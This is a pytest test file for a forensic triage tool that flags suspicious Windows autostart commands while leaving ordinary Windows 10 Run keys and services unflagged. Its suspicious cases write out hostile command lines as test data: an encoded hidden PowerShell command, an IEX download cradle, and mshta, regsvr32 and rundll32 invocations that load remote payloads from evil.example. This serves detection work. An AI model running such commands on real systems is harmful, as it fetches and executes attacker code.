"""Autostart commands: the examples are LOLBAS project and MITRE ATT&CK (T1547.001, T1543.003) procedure
examples, and ordinary entries of a clean Windows 10 install (its Run keys and services) that must stay quiet."""

import pytest

from cybertriage.analyzers.artefacts.persistence import severity, suspicious_command

CLEAN = [
    r'"C:\Windows\system32\SecurityHealthSystray.exe"',
    r'%SystemRoot%\system32\svchost.exe -k netsvcs -p',
    r'"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background',
    r'C:\Windows\system32\userinit.exe,',
    "explorer.exe",
    r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL",
    r"C:\Windows\system32\msiexec.exe /V",  # the Windows Installer service
    r'"C:\ProgramData\Microsoft\Windows Defender\platform\4.18.2211.5-0\MsMpEng.exe"',  # Defender's own
    r'"%ProgramData%\Microsoft\Windows Defender\platform\4.18.1904.1-0\NisSrv.exe"',
]


@pytest.mark.parametrize("command", CLEAN)
def test_ordinary_autostart_entries_are_quiet(command):
    assert suspicious_command(command) == []


@pytest.mark.parametrize("command, reason, expected", [
    (r"C:\Users\bob\AppData\Roaming\Microsoft\updater.exe", "the user's AppData", "high"),
    (r"%TEMP%\svch0st.exe", "a temporary folder", "high"),
    (r"C:\ProgramData\x\run.exe", "ProgramData", "high"),
    ("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "encoded PowerShell", "high"),
    ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"", "cradle", "high"),
    ("mshta.exe http://evil.example/payload.hta", "mshta.exe", "high"),
    (r"regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll", "regsvr32.exe", "high"),
    (r"rundll32.exe javascript:\"\..\mshtml,RunHTMLApplication \";alert(1)", "rundll32.exe", "medium"),
    (r"certutil.exe -decode C:\Windows\Temp\a.b64 b.exe", "certutil.exe", "high"),
    (r"wscript.exe C:\Users\bob\AppData\Roaming\run.vbs", "wscript.exe", "high"),
])
def test_suspicious_autostart_entries_say_why(command, reason, expected):
    reasons = suspicious_command(command)
    assert any(reason in r for r in reasons), reasons
    assert severity(reasons) == expected
